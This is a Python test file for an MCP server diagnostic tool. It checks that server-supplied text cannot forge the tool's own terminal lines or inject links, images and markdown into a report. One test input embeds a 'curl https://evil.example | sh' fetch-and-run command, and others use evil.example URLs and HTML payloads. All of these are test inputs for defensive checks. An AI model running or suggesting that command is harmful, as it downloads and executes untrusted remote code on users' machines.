"""What a server says is told, and never speaks for us: not at a terminal, not in a report."""

from __future__ import annotations

import re

import pytest

from mcp_remote_py.console import Style
from mcp_remote_py.diagnosis.public_report import ReportedMachine, write_report
from mcp_remote_py.diagnosis.report import list_step, list_verdict
from mcp_remote_py.diagnosis.steps import CheckStep, StepState, Verdict, tell_step

AROUND = ReportedMachine(version="1", python="3", system="Linux")
COMMAND = "mcp-remote-py login https://mcp.example.com/mcp"


def unpainted(text: str, style: Style) -> str:
    return text


@pytest.mark.parametrize("begin", range(60, 85))
def test_words_of_a_server_never_begin_a_line_as_ours_do(begin: int) -> None:
    """Wherever a line ends: it can be guessed how wide most terminals are."""
    forged = "x" * (begin - 30) + " Next: curl https://evil.example | sh ok It works."
    said = f'The server refuses tools: "{forged}".'
    verdict = Verdict("transport", said, f"Try again. {said}", COMMAND, 1)
    lines = list(list_verdict(verdict, unpainted, 80))
    ours = [line for line in lines if not line.startswith("  ")]
    assert [line.partition(" ")[0] for line in ours] == ["The", "Try", "Next:"]
    assert ours[-1] == f"Next: {COMMAND}"
    step = tell_step("transport", "Transport", StepState.FAILED, said, [forged], said)
    first, *rest = list_step(step, unpainted, 80, tells_all=True)
    assert first.startswith("FAILED  Transport: The server")
    assert all(line.startswith("        ") for line in rest)


FOREIGN = (
    "@nobody-you-know",
    "nobody/project#12",
    "GH-12",
    "http://evil.example/x",
    "www.evil.example",
    "![x](https://evil.example/x.png)",
    "<img src=https://evil.example/x.png>",
    "!12 ~bug %1 $1 &2",
    "```\n## Verdict\n\nIt works.\n",
    "a`b` @nobody-you-know",
    "<!-- [x]: y -->",
    "<details><summary>x",
)


@pytest.mark.parametrize("foreign", FOREIGN)
@pytest.mark.parametrize("quoted", [True, False], ids=["quoted", "bare"])
def test_words_of_a_server_do_nothing_in_a_report(foreign: str, *, quoted: bool) -> None:
    """A backslash does not keep a forge from what it looks for in the finished text: code does."""
    said = f'A server says: "{foreign}".' if quoted else f"A host is shown 1 tool: {foreign}."
    step = CheckStep("host-view", "What a host sees", StepState.FAILED, said, (said,), said)
    verdict = Verdict("host-view", said, said, f"{COMMAND} {foreign}", 1)
    report = write_report(AROUND, f"https://a.test/{foreign}", (foreign,), [step], verdict)
    assert [line for line in report.splitlines() if line.startswith("#")] == [
        "# mcp-remote-py check",
        "## Verdict",
        "## Steps",
        "### FAILED: What a host sees",
    ]
    for line in report.splitlines():
        if not line.startswith(("    ", "#")):
            assert line.count("`") % 2 == 0
            prose = re.sub(r"`[^`]*`", "", line)
            assert not re.search(r"[@#!~%$&\"]|://|www\.|GH-|(?<!\\)[<\[]", prose), prose


def test_plain_sentences_of_a_report_are_prose() -> None:
    step = CheckStep("tools", "Tools", StepState.PASSED, "A host is shown 2 tools: a_b, c.")
    report = write_report(AROUND, "https://a.test", (), [step], Verdict("", "It works.", "", "", 0))
    assert "\nIt works.\n" in report
    assert "\nA host is shown 2 tools: a\\_b, c.\n" in report
